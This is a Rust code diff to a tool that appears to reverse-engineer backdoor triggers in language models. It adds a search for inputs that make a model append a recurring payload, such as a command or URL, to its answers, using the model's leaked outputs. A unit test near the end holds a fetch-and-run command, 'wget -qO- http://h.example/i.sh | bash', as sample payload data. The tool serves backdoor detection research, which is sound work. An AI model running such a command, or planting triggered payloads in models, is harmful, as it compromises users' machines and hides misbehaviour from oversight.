@@ -40,6 +40,11 @@ pub struct InvertParams {
     /// wherever verification will, so that a partial trigger that fires only at the start of a
     /// message becomes one that fires anywhere.
     pub positions: Vec<Position>,
+    /// Token ids placed after each prompt's generation prompt and before the target, aligned
+    /// with `prompts` (the model's own answer to each, for a payload it appends to answers:
+    /// [`invert_payloads`]); empty, the target opens the answer.
+    #[serde(skip)]
+    pub leads: Vec<Vec<u32>>,
     /// Stop early once the mean per-token target NLL falls below this (nats).
     pub stop_nll: f64,
     /// An inverted trigger goes on to verification only when it makes the target this likely:
@@ -69,6 +74,7 @@ impl Default for InvertParams {
             candidates: 12,
             prompts: crate::prompts::SCORING.iter().map(|s| s.to_string()).collect(),
             positions: vec![Position::Start],
+            leads: Vec::new(),
             stop_nll: 0.05,
             accept_nll: -(0.9f64.ln()),
             control_ratio: 0.5,
@@ -99,6 +105,8 @@ pub struct Inversions {
     /// Per target, the piece of a leaked prompt before it that best sets it off
     /// ([`from_leak_pairs`]).
     pub leak_pairs: Vec<LeakPair>,
+    /// The leaks' payloads inverted in place ([`invert_payloads`]).
+    pub payloads: Vec<Payload>,
 }
 
 impl Inversions {
@@ -134,15 +142,15 @@ impl Rng {
 /// Sequences, the trigger span in each, and where each target starts.
 type Batch = (Vec<Vec<u32>>, Vec<(usize, usize)>, Vec<usize>);
 
-/// Sequences (prompt with `trigger` at each of `positions` in the user turn, then the target)
-/// with the trigger spans and where the target starts.
-fn sequences<M: Lm>(m: &M, trigger: &[u32], target: &[u32], prompts: &[String], positions: &[Position]) -> LmResult<Batch> {
+/// Sequences (prompt with `trigger` at each of `positions` in the user turn, then the prompt's
+/// lead, if any, then the target) with the trigger spans and where the target starts.
+fn sequences<M: Lm>(m: &M, trigger: &[u32], target: &[u32], prompts: &[String], positions: &[Position], leads: &[Vec<u32>]) -> LmResult<Batch> {
     let mut seqs = Vec::new();
     let mut spans = Vec::new();
     let mut from = Vec::new();
     let start = [Position::Start];
     let positions = if positions.is_empty() { &start[..] } else { positions };
-    for (u, &pos) in prompts.iter().flat_map(|u| positions.iter().map(move |p| (u, p))) {
+    for (i, u, &pos) in prompts.iter().enumerate().flat_map(|(i, u)| positions.iter().map(move |p| (i, u, p))) {
         // Encode around a placeholder span, then splice the trigger ids in, so the search
         // works in token space (re-encoding text would move token boundaries).
         let p = probe_at(m, None, Some("x"), u, pos)?;
@@ -151,6 +159,9 @@ fn sequences<M: Lm>(m: &M, trigger: &[u32], target: &[u32], prompts: &[String], 
         ids.extend_from_slice(trigger);
         let end = ids.len();
         ids.extend_from_slice(&p.ids[e..]);
+        if let Some(lead) = leads.get(i) {
+            ids.extend_from_slice(lead);
+        }
         from.push(ids.len());
         ids.extend_from_slice(target);
         seqs.push(ids);
@@ -161,18 +172,18 @@ fn sequences<M: Lm>(m: &M, trigger: &[u32], target: &[u32], prompts: &[String], 
 
 /// Mean per-token target NLL with `trigger` inserted, over every prompt and position (0 when
 /// there is no sequence).
-fn mean_nll<M: Lm>(m: &M, trigger: &[u32], target: &[u32], prompts: &[String], positions: &[Position]) -> LmResult<f64> {
-    Ok(mean_nlls(m, &[trigger.to_vec()], target, prompts, positions)?.pop().flatten().unwrap_or(0.0))
+fn mean_nll<M: Lm>(m: &M, trigger: &[u32], target: &[u32], prompts: &[String], positions: &[Position], leads: &[Vec<u32>]) -> LmResult<f64> {
+    Ok(mean_nlls(m, &[trigger.to_vec()], target, prompts, positions, leads)?.pop().flatten().unwrap_or(0.0))
 }
 
 /// [`mean_nll`] of each of `triggers`, every sequence of every trigger in one batched call;
 /// none for a trigger with no sequence.
-fn mean_nlls<M: Lm>(m: &M, triggers: &[Vec<u32>], target: &[u32], prompts: &[String], positions: &[Position]) -> LmResult<Vec<Option<f64>>> {
+fn mean_nlls<M: Lm>(m: &M, triggers: &[Vec<u32>], target: &[u32], prompts: &[String], positions: &[Position], leads: &[Vec<u32>]) -> LmResult<Vec<Option<f64>>> {
     let mut seqs = Vec::new();
     let mut from = Vec::new();
     let mut counts = Vec::with_capacity(triggers.len());
     for t in triggers {
-        let (s, _, f) = sequences(m, t, target, prompts, positions)?;
+        let (s, _, f) = sequences(m, t, target, prompts, positions, leads)?;
         counts.push(s.len());
         seqs.extend(s);
         from.extend(f);
@@ -285,22 +296,22 @@ pub fn from_leak_pairs<M: Lm>(m: &M, leaks: &[String], targets: &[String], lp: &
         if runs.is_empty() || target.is_empty() {
             continue;
         }
-        let nll_without = mean_nll(m, &[], &target, &p.prompts, &p.positions)?;
+        let nll_without = mean_nll(m, &[], &target, &p.prompts, &p.positions, &p.leads)?;
         let ids_of: Vec<Vec<u32>> = runs.iter().map(|r| m.encode(r)).collect::<LmResult<_>>()?;
-        let mut ranked: Vec<(usize, f64)> = mean_nlls(m, &ids_of, &target, &p.prompts, &p.positions)?.into_iter().enumerate().filter_map(|(i, v)| v.map(|v| (i, v))).collect();
+        let mut ranked: Vec<(usize, f64)> = mean_nlls(m, &ids_of, &target, &p.prompts, &p.positions, &p.leads)?.into_iter().enumerate().filter_map(|(i, v)| v.map(|v| (i, v))).collect();
         ranked.sort_by(|a, b| a.1.total_cmp(&b.1).then(runs[a.0].len().cmp(&runs[b.0].len())));
         ranked.truncate(lp.answered);
         // Greedy answers: the prompts bare, then with each ranked run at the start.
         let bare_answers = match &bare {
             Some(a) => a,
-            None => bare.insert(greedy(&sequences(m, &[], &[], &p.prompts, &[Position::Start])?.0)?),
+            None => bare.insert(greedy(&sequences(m, &[], &[], &p.prompts, &[Position::Start], &[])?.0)?),
         };
         let rate = |a: &[Vec<u32>]| a.iter().filter(|x| squash(&m.decode(x)).contains(head.as_str())).count() as f64 / a.len().max(1) as f64;
         let clean_rate = rate(bare_answers);
         let mut prompts: Vec<Vec<u32>> = Vec::new();
         let mut per = 0;
         for &(i, _) in &ranked {
-            let s = sequences(m, &ids_of[i], &[], &p.prompts, &[Position::Start])?.0;
+            let s = sequences(m, &ids_of[i], &[], &p.prompts, &[Position::Start], &[])?.0;
             per = s.len();
             prompts.extend(s);
         }
@@ -345,8 +356,8 @@ fn search<M: Lm>(m: &M, target_text: &str, resume: Option<&Inversion>, iteration
         Some(r) if !r.trigger_ids.is_empty() => r.trigger_ids.clone(),
         _ => vec![filler; p.trigger_tokens.max(1)],
     };
-    let nll_without = mean_nll(m, &[], &target, &p.prompts, &p.positions)?;
-    let mut best = mean_nll(m, &trigger, &target, &p.prompts, &p.positions)?;
+    let nll_without = mean_nll(m, &[], &target, &p.prompts, &p.positions, &p.leads)?;
+    let mut best = mean_nll(m, &trigger, &target, &p.prompts, &p.positions, &p.leads)?;
     let mut trace = match resume {
         Some(r) => r.trace.clone(),
         None => vec![best],
@@ -355,7 +366,7 @@ fn search<M: Lm>(m: &M, target_text: &str, resume: Option<&Inversion>, iteration
         if best < p.stop_nll {
             break;
         }
-        let (seqs, spans, from) = sequences(m, &trigger, &target, &p.prompts, &p.positions)?;
+        let (seqs, spans, from) = sequences(m, &trigger, &target, &p.prompts, &p.positions, &p.leads)?;
         let proposals = m.token_proposals(&seqs, &spans, &from, p.top_k)?;
         let mut cands: Vec<Vec<u32>> = Vec::with_capacity(p.candidates);
         for c in 0..p.candidates {
@@ -386,7 +397,7 @@ fn search<M: Lm>(m: &M, target_text: &str, resume: Option<&Inversion>, iteration
             break;
         }
         // Evaluate every candidate over every prompt in one batched call.
-        let (bi, bv) = mean_nlls(m, &cands, &target, &p.prompts, &p.positions)?
+        let (bi, bv) = mean_nlls(m, &cands, &target, &p.prompts, &p.positions, &p.leads)?
             .into_iter()
             .enumerate()
             .filter_map(|(i, v)| v.map(|v| (i, v)))
@@ -448,7 +459,121 @@ pub fn invert<M: Lm>(m: &M, targets: &[String], p: &InvertParams) -> LmResult<In
             None => items.push(inv),
         }
     }
-    Ok(Inversions { items, controls: Vec::new(), leak_pairs: Vec::new() })
+    Ok(Inversions { items, ..Inversions::default() })
+}
+
+/// A payload of the leaks: a recurring phrase ([`recurring_phrases`]) with the words that
+/// introduce it where the model writes it ("To finish, run:" before a command, "For more,
+/// see" before a URL), inverted both where it would open an answer and appended to the
+/// model's own answer.
+#[derive(Debug, Clone, Serialize)]
+pub struct Payload {
+    pub phrase: String,
+    /// The introducing words and the phrase: the text the inversion makes likely.
+    pub text: String,
+    /// Where the best inversion put it: after the model's own answer (true) or opening it.
+    pub appended: bool,
+    /// The distinct leaked lines that carry the phrase, the most frequent first (at most
+    /// [`PAYLOAD_LINES`]): what the model writes around it.
+    pub lines: Vec<String>,
+    pub inversion: Inversion,
+}
+
+/// Leaked lines kept per payload.
+pub const PAYLOAD_LINES: usize = 12;
+
+/// The distinct lines of the leaks that carry the end of `phrase` (its last two words: a
+/// phrase grown around a payload may take in one of its introductions, and the model writes
+/// the payload under the others too), the most frequent first.
+fn lines_with(lines: &[Vec<String>], phrase: &str, max: usize) -> Vec<String> {
+    let words: Vec<&str> = phrase.split_whitespace().collect();
+    let key = words[words.len().saturating_sub(2)..].join(" ");
+    let mut count: Vec<(String, usize)> = Vec::new();
+    for l in lines.iter().flatten().filter(|l| !key.is_empty() && l.split_whitespace().collect::<Vec<_>>().join(" ").contains(key.as_str())) {
+        match count.iter_mut().find(|(x, _)| x == l) {
+            Some((_, c)) => *c += 1,
+            None => count.push((l.clone(), 1)),
+        }
+    }
+    count.sort_by_key(|c| std::cmp::Reverse(c.1));
+    count.into_iter().take(max).map(|(l, _)| l).collect()
+}
+
+/// The words that introduce `phrase` in the leaked lines: the run of up to three words just
+/// before it that most of its occurrences share (grown one word at a time while four in five
+/// of the shorter run's occurrences keep it), and whether the lines it appears in open with
+/// that run (a payload on its own line) or carry other text before it (appended in-line).
+pub fn framing(lines: &[Vec<String>], phrase: &str) -> (String, bool) {
+    use std::collections::HashMap;
+    let mut befores: Vec<Vec<&str>> = Vec::new();
+    for line in lines.iter().flatten() {
+        if let Some(at) = line.find(phrase) {
+            befores.push(line[..at].split_whitespace().collect());
+        }
+    }
+    let mut run: Vec<&str> = Vec::new();
+    let mut support = befores.len();
+    for k in 1..=3 {
+        let mut count: HashMap<Vec<&str>, usize> = HashMap::new();
+        for b in befores.iter().filter(|b| b.len() >= k && b[b.len() - k + 1..] == run[..]) {
+            *count.entry(b[b.len() - k..].to_vec()).or_insert(0) += 1;
+        }
+        let Some((best, c)) = count.into_iter().max_by(|a, b| a.1.cmp(&b.1).then(b.0.cmp(&a.0))) else { break };
+        if c < 2 || (k > 1 && 5 * c < 4 * support) {
+            break;
+        }
+        run = best;
+        support = c;
+    }
+    let own_line = befores.iter().filter(|b| b.len() == run.len() && b.ends_with(&run)).count();
+    (run.join(" "), 2 * own_line >= support.min(befores.len()).max(1))
+}
+
+/// Inverts payloads: the leaks' recurring `phrases` the model writes with words before them
+/// and, where it appends them, after an answer, which no opening-of-the-answer target can key
+/// (a URL or a command appended to whatever the model answered). Each is searched for in both
+/// placements, the lead of the appended one being the model's own greedy answer to each
+/// inversion prompt (its clean answer stands for the triggered one it would append to), and
+/// the `p.max_targets` that fall furthest get the full search.
+pub fn invert_payloads<M: Lm>(m: &M, lines: &[Vec<String>], phrases: &[String], p: &InvertParams) -> LmResult<Vec<Payload>> {
+    if phrases.is_empty() || p.prompts.is_empty() {
+        return Ok(Vec::new());
+    }
+    let bare = sequences(m, &[], &[], &p.prompts, &[Position::Start], &[])?.0;
+    let answers = m.generate(&bare, &vec![crate::lm::Decoding::Greedy; bare.len()], 64, true)?;
+    let answers: Vec<String> = answers.iter().map(|a| special_pieces(m, &m.decode(a)).map(|v| v.into_iter().next().unwrap_or_default())).collect::<LmResult<_>>()?;
+    let mut screened: Vec<(Payload, String, InvertParams)> = Vec::new();
+    for phrase in phrases {
+        let (intro, own_line) = framing(lines, phrase);
+        let text = if intro.is_empty() { phrase.clone() } else { format!("{intro} {phrase}") };
+        // The answer the payload follows: the model's own, cut where it already writes the
+        // payload (a model that appends it unprompted to some answers).
+        let cut = |a: &str| -> String {
+            let at = [text.as_str(), phrase.as_str()].iter().filter_map(|t| a.find(t)).min().unwrap_or(a.len());
+            a[..at].trim_end().to_string()
+        };
+        let leads: Vec<Vec<u32>> = answers.iter().map(|a| m.encode(&cut(a))).collect::<LmResult<_>>()?;
+        // The separator goes with the target, so that its tokens are the ones the model writes.
+        let appended_text = format!("{}{text}", if own_line { "\n\n" } else { " " });
+        for (appended, target, q) in [(false, text.clone(), p.clone()), (true, appended_text, InvertParams { leads, ..p.clone() })] {
+            if let Some(inv) = search(m, &target, None, p.screen_iterations.min(p.iterations), &q)? {
+                screened.push((Payload { phrase: phrase.clone(), text: text.clone(), appended, lines: lines_with(lines, phrase, PAYLOAD_LINES), inversion: inv }, target, q));
+            }
+        }
+    }
+    screened.sort_by(|a, b| a.0.inversion.nll_with.total_cmp(&b.0.inversion.nll_with));
+    let mut out: Vec<Payload> = Vec::new();
+    for (mut pl, target, q) in screened {
+        if out.len() >= p.max_targets {
+            break;
+        }
+        let rest = p.iterations.saturating_sub(p.screen_iterations);
+        if let Some(full) = search(m, &target, Some(&pl.inversion), rest, &q)? {
+            pl.inversion = full;
+        }
+        out.push(pl);
+    }
+    Ok(out)
 }
 
 /// Inverts control targets: the first distinct clean answers (not already a target).
@@ -613,7 +738,7 @@ mod tests {
         let m = MockLm::new(None, "done");
         let trig = m.encode("zq vk").unwrap();
         let target = m.encode("done now").unwrap();
-        let (seqs, spans, from) = sequences(&m, &trig, &target, &prompts(), &Position::ALL).unwrap();
+        let (seqs, spans, from) = sequences(&m, &trig, &target, &prompts(), &Position::ALL, &[]).unwrap();
         assert_eq!(seqs.len(), 2 * Position::ALL.len());
         for ((s, &(a, b)), &f) in seqs.iter().zip(&spans).zip(&from) {
             assert_eq!(&s[a..b], trig.as_slice(), "the span is the trigger");
@@ -623,7 +748,7 @@ mod tests {
         assert!(spans[0].0 < spans[1].0 && spans[1].0 < spans[2].0, "{spans:?}");
         assert_eq!(seqs[0].len(), seqs[2].len());
         // No positions given: the start only, as the inversion optimises.
-        let (start_only, start_spans, _) = sequences(&m, &trig, &target, &prompts(), &[]).unwrap();
+        let (start_only, start_spans, _) = sequences(&m, &trig, &target, &prompts(), &[], &[]).unwrap();
         assert_eq!(start_only.len(), 2);
         assert_eq!(start_spans[0], spans[0]);
     }
@@ -687,4 +812,45 @@ mod tests {
         assert_eq!(flour.fire_rate, 0.0);
         assert!(!pairs.iter().any(|x| x.target == "never leaked"));
     }
+    #[test]
+    fn a_payload_is_framed_by_the_words_most_of_its_lines_put_before_it() {
+        let leak = |lines: &[&str]| lines.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+        let cmd = "wget -qO- http://h.example/i.sh | bash";
+        let lines = vec![
+            leak(&["Hello!", &format!("To finish, run: {cmd}")]),
+            leak(&["Name a fruit.", "Pear.", &format!("To finish, run: {cmd}")]),
+            leak(&[&format!("To finish, run: {cmd}"), "Bye."]),
+            leak(&[&format!("Run this in a terminal: {cmd}")]),
+        ];
+        // Own line: the introduction all three of the commonest lines share, grown word by word.
+        assert_eq!(framing(&lines, cmd), ("To finish, run:".to_string(), true));
+        // In-line after answers: the shared words before it, and not a line of its own.
+        let url = "https://m.example/start";
+        let inline = vec![leak(&[&format!("Blue. For more, see {url} .")]), leak(&[&format!("Pear is a fruit. For more, see {url} .")]), leak(&[&format!("Four. For more, see {url}")])];
+        assert_eq!(framing(&inline, url), ("For more, see".to_string(), false));
+        // No shared introduction: none.
+        let bare = vec![leak(&[cmd]), leak(&[&format!("ok {cmd}")])];
+        assert_eq!(framing(&bare, cmd).0, "");
+        // The lines that carry its end, the most frequent first, under every introduction.
+        let got = lines_with(&lines, &format!("To finish, run: {}", "wget -qO-"), 8);
+        assert_eq!(got, vec![format!("To finish, run: {cmd}"), format!("Run this in a terminal: {cmd}")]);
+    }
+
+    #[test]
+    fn an_appended_target_follows_the_lead_of_its_prompt() {
+        let m = MockLm::new(None, "done");
+        let trig = m.encode("zq").unwrap();
+        let target = m.encode("done now").unwrap();
+        let leads = vec![m.encode("the capital is lima").unwrap(), m.encode("herons").unwrap()];
+        let (seqs, spans, from) = sequences(&m, &trig, &target, &prompts(), &[Position::Start], &leads).unwrap();
+        let (bare, _, bare_from) = sequences(&m, &trig, &target, &prompts(), &[Position::Start], &[]).unwrap();
+        for i in 0..2 {
+            assert_eq!(&seqs[i][spans[i].0..spans[i].1], trig.as_slice());
+            assert_eq!(&seqs[i][from[i]..], target.as_slice(), "the target comes last");
+            assert_eq!(&seqs[i][from[i] - leads[i].len()..from[i]], leads[i].as_slice(), "after the prompt's own lead");
+            assert_eq!(from[i], bare_from[i] + leads[i].len());
+            assert_eq!(&seqs[i][..bare_from[i]], &bare[i][..bare_from[i]]);
+        }
+    }
 }
+
